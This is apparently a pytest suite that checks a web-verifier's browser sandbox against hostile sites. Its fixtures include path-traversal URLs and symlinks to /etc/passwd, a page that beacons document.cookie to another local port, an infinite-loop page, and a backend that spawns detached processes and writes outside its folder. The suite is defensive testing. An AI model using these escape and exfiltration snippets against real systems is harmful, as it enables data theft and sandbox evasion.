"""Hostile sites against the verifier's sandbox, with a real Chromium (skipped, with the reason, without it):
an infinite-loop page, a symlink out of the site root, beacons to another loopback port, a backend that
backgrounds a child (and tries to write into its site), a 50 MB page, the result file's mode."""
from __future__ import annotations

import asyncio
import json
import os
import stat
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from stages.common.paths import ROOT
from stages.vision2web import sandbox
from stages.vision2web.browser import browser_available
from stages.vision2web.schema import load_task

needs_browser = pytest.mark.skipif(not browser_available(),
                                   reason="needs Debian's chromium (apt-get install chromium) and the playwright package")


def _task(root: Path, workflows: list[dict], meta: dict | None = None) -> Path:
    (root / "prototypes").mkdir(parents=True)
    for wf in workflows:
        for name in wf.get("prototype", {}):
            Image.fromarray(np.full((60, 80, 3), 255, np.uint8)).save(root / "prototypes" / f"{name}.png")
    (root / "workflow.json").write_text(json.dumps(workflows))
    (root / "task.json").write_text(json.dumps(meta or {"action_timeout_ms": 1000, "validation_timeout_ms": 500,
                                                        "navigation_timeout_ms": 2000}))
    return root


CASE = {"objective": "the title is there", "validations": [{"op": "visible", "selector": "h1"}]}


def _browse(task_dir: Path, site: Path, **kw):
    from stages.vision2web.browser import browser_session
    from stages.vision2web.verify import browse

    async def go():
        async with browser_session() as browser:
            return await browse(load_task(task_dir), site, browser, **kw)

    return asyncio.run(go())


# ---------------------------------------------------------------- static server (no browser needed)


def test_symlink_out_of_root_is_not_served(tmp_path):
    site = tmp_path / "site"
    (site / "sub").mkdir(parents=True)
    (site / "index.html").write_text("<h1>home</h1>")
    (site / "sub" / "page.html").write_text("sub page")
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    (site / "secret").symlink_to(secret)                 # points outside the root
    (site / "passwd").symlink_to("/etc/passwd")
    (site / "alias.html").symlink_to(site / "sub" / "page.html")   # inside the root: allowed
    (site / "outdir").symlink_to(tmp_path)               # a directory outside
    os.mkfifo(site / "fifo")                             # not a regular file

    def get(url):
        try:
            with urllib.request.urlopen(url, timeout=5) as r:
                return r.status, r.read()
        except urllib.error.HTTPError as err:
            return err.code, b""

    with sandbox.static_server(site) as url:
        assert get(url + "/") == (200, b"<h1>home</h1>")
        assert get(url + "/alias.html") == (200, b"sub page")
        for path in ("/secret", "/passwd", "/outdir/secret.txt", "/../secret.txt", "/%2e%2e/secret.txt",
                     "/sub/../../secret.txt", "/fifo", "/sub/", "/nope"):
            code, body = get(url + path)
            assert code == 404 and b"SECRET" not in body and b"root:" not in body, path


# ---------------------------------------------------------------- with the browser


@needs_browser
def test_infinite_loop_page_is_blocked_within_deadline(tmp_path):
    """Two workflows (the case that used to hang in set_viewport_size): the page spins after load; every
    case ends Blocked, the run returns, R.json is written with the usual file mode."""
    task = _task(tmp_path / "task", [
        {"summary": "a", "resolution": {"width": 800, "height": 600}, "prototype": {"a_desktop": {"idx": 1}},
         "content": [CASE, CASE]},
        {"summary": "b", "resolution": {"width": 400, "height": 700}, "prototype": {"b_mobile": {"idx": 0}},
         "content": [CASE]}])
    site = tmp_path / "site"
    site.mkdir()
    # the loop starts right after the load event, from a message task: timers in a headless (background) page
    # are throttled to ~1 s, long enough for a quick case to pass first (seen under load)
    (site / "index.html").write_text("<h1>spin</h1><script>addEventListener('load', () => { const c = new MessageChannel();"
                                     " c.port1.onmessage = () => { while (true) {} }; c.port2.postMessage(0); })</script>")
    out = tmp_path / "R.json"
    old = os.umask(0o022)
    try:
        r = subprocess.run([sys.executable, "-m", "stages.vision2web.verify", "--task", task, "--site", site, "--out",
                            out, "--deadline-s", "20"], cwd=ROOT, capture_output=True, text=True, timeout=240)
    finally:
        os.umask(old)
    assert r.returncode == 0, r.stderr
    res = json.loads(out.read_text())
    cases = [c for wf in res["workflows"] for c in wf["cases"]]
    assert [c["result"] for c in cases] == ["Blocked"] * 3
    assert all("unresponsive" in c["detail"] or "deadline" in c["detail"] or "load" in c["detail"] for c in cases)
    assert res["sandbox"]["stuck"] >= 1 and res["FS"] == 0.0
    assert stat.S_IMODE(out.stat().st_mode) == 0o644


@needs_browser
def test_beacon_to_another_loopback_port_is_blocked(tmp_path):
    hits = []

    class Spy(BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

    spy = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
    threading.Thread(target=spy.serve_forever, daemon=True).start()
    p = spy.server_address[1]
    site = tmp_path / "site"
    site.mkdir()
    (site / "data.json").write_text('{"ok": "own origin works"}')
    (site / "index.html").write_text(f"""<h1>beacon</h1><p id="own"></p><img src="http://127.0.0.1:{p}/img">
<script>
fetch('http://127.0.0.1:{p}/fetch').catch(() => 0);
navigator.sendBeacon('http://127.0.0.1:{p}/beacon', 'cookie=' + document.cookie);
try {{ new WebSocket('ws://127.0.0.1:{p}/ws'); }} catch (e) {{}}
fetch('http://localhost:{p}/by-name').catch(() => 0);
fetch('/data.json').then(r => r.json()).then(d => document.getElementById('own').textContent = d.ok);
</script>""")
    task = _task(tmp_path / "task", [{"summary": "s", "prototype": {"desktop": {"idx": 1}}, "content": [
        {"objective": "same-origin fetch works", "validations": [
            {"op": "text_equals", "selector": "#own", "value": "own origin works"}]}]}])
    raw = _browse(task, site)
    time.sleep(0.5)
    spy.shutdown()
    assert hits == []
    assert raw["status"] == "success" and raw["runs"][0]["cases"][0]["result"] == "Pass"
    assert raw["info"]["blocked_requests"] >= 3


BACKEND = r'''
import os, subprocess, sys, time
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
beat, ro = sys.argv[2], sys.argv[3]
open(sys.argv[4], "w").write(os.environ.get("TMPDIR", ""))   # where its private temp dir is
# a grandchild that leaves the process group and keeps writing a heartbeat
subprocess.Popen([sys.executable, "-c", "import time,sys\nwhile True:\n open(sys.argv[1],'a').write('x'); time.sleep(0.1)",
                  beat], start_new_session=True)
os.system("sleep 600 &")
try:
    open("written_by_backend.txt", "w").write("x")
    open(ro, "w").write("writable")
except OSError:
    open(ro, "w").write("read-only")
ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), SimpleHTTPRequestHandler).serve_forever()
'''


@needs_browser
@pytest.mark.parametrize("jail", [False, True])
def test_backgrounded_child_is_killed(tmp_path, jail):
    if jail and not sandbox.unshare_available():
        pytest.skip("unshare (PID + mount namespaces) is not available here")
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<h1>backend</h1>")
    (site / "app.py").write_text(BACKEND)
    beat, ro, where = tmp_path / "beat.txt", tmp_path / "ro.txt", tmp_path / "tmpdir.txt"
    (site / "start.json").write_text(json.dumps({"command": ["{python}", "app.py", "{port}", str(beat), str(ro),
                                                             str(where)], "ready_timeout_s": 20}))
    task = _task(tmp_path / "task", [{"summary": "s", "prototype": {"desktop": {"idx": 1}}, "content": [CASE]}])
    fds = len(os.listdir("/proc/self/fd"))
    raw = _browse(task, site, jail=jail)
    # no leaks: the backend's private temp dir is gone, and this process holds no more descriptors than before
    # (browser pipes, the backend's port probe and its log handles are all closed)
    assert where.read_text() and not Path(where.read_text()).exists()
    assert len(os.listdir("/proc/self/fd")) <= fds
    assert raw["status"] == "success" and raw["runs"][0]["cases"][0]["result"] == "Pass"
    assert beat.exists()
    size = beat.stat().st_size
    time.sleep(1.0)
    assert beat.stat().st_size == size          # the escaped grandchild is dead
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert str(beat) not in out
    assert ro.read_text() == ("read-only" if jail else "writable")
    assert (site / "written_by_backend.txt").exists() == (not jail)


@needs_browser
def test_fifty_megabyte_page_no_traceback(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    with open(site / "index.html", "w") as fh:
        fh.write("<h1>big</h1><!--")
        chunk = "x" * (1 << 20)
        for _ in range(50):
            fh.write(chunk)
        fh.write("-->")
    task = _task(tmp_path / "task", [{"summary": "s", "prototype": {"desktop": {"idx": 1}}, "content": [CASE]}],
                 {"navigation_timeout_ms": 30000})
    out = tmp_path / "R.json"
    r = subprocess.run([sys.executable, "-m", "stages.vision2web.verify", "--task", task, "--site", site, "--out", out,
                        "--deadline-s", "120"], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert r.returncode == 0 and "Traceback" not in r.stderr and "Error" not in r.stderr, r.stderr
    res = json.loads(out.read_text())
    assert res["status"] == "success" and res["workflows"][0]["cases"][0]["result"] in ("Pass", "Blocked")
